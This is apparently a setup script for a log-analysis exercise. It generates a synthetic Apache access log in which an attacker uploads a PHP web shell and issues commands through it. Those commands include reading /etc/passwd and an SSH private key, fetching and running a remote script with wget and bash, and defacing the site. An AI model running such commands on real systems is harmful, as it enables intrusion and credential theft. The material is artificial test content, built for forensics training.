set -e
mkdir -p /app/logs
python3 - <<'PY'
import random, datetime, urllib.parse
r = random.Random(3)
t = datetime.datetime(2024, 6, 12, 9, 0, 0)
out = []
def log(ip, method, path, status, size=None, ua="Mozilla/5.0"):
    global t
    t += datetime.timedelta(seconds=r.randint(1, 30))
    out.append(f'{ip} - - [{t.strftime("%d/%b/%Y:%H:%M:%S")} +0000] "{method} {path} HTTP/1.1" {status} {size or r.randint(200, 9000)} "-" "{ua}"')
normal = ["/", "/index.php", "/products.php?id=3", "/css/site.css", "/upload.php", "/about.php", "/uploads/cat.jpg"]
users = ["66.249.66.1", "81.2.69.160", "92.40.1.7", "172.58.3.3"]
atk = "194.26.29.113"
cmds = ["id", "uname -a", "cat /etc/passwd", "ls -la /var/www/html", "wget http://198.51.100.66/x.sh -O /tmp/x.sh",
        "bash /tmp/x.sh", "echo 'hacked by z' > /var/www/html/index.php"]
plan = []
for i in range(600):
    plan.append(("n",))
    if i == 200: plan.append(("upload",))
    if i > 210 and cmds and i % 40 == 0: plan.append(("cmd", cmds.pop(0)))
    if i == 300: plan.append(("cmdfail", "whoami && cat /root/.ssh/id_rsa"))
    if i % 97 == 0: plan.append(("scan",))
for p in plan:
    if p[0] == "n":
        log(r.choice(users), r.choice(["GET", "GET", "POST"]) if False else "GET", r.choice(normal), r.choice([200, 200, 304, 404]))
    elif p[0] == "upload":
        log(atk, "GET", "/upload.php", 200)
        log(atk, "POST", "/upload.php", 200)
        log(atk, "GET", "/uploads/img_4471.php", 200)
    elif p[0] == "cmd":
        q = urllib.parse.quote_plus(p[1]) if r.random() < 0.6 else urllib.parse.quote(p[1], safe="")
        log(atk, "GET", "/uploads/img_4471.php?cmd=" + q, 200)
    elif p[0] == "cmdfail":
        log(atk, "GET", "/uploads/img_4471.php?cmd=" + urllib.parse.quote_plus(p[1]), 500)
    else:
        for s in ["/shell.php?cmd=id", "/uploads/c99.php?cmd=ls", "/wp-login.php", "/cmd.php?cmd=whoami"]:
            log("45.95.147.236", "GET", s, 404, ua="Nuclei")
log("81.2.69.160", "POST", "/upload.php", 200)
log("81.2.69.160", "GET", "/uploads/holiday.jpg", 200)
open("/app/logs/access.log", "w").write("\n".join(out) + "\n")
assert not cmds
PY
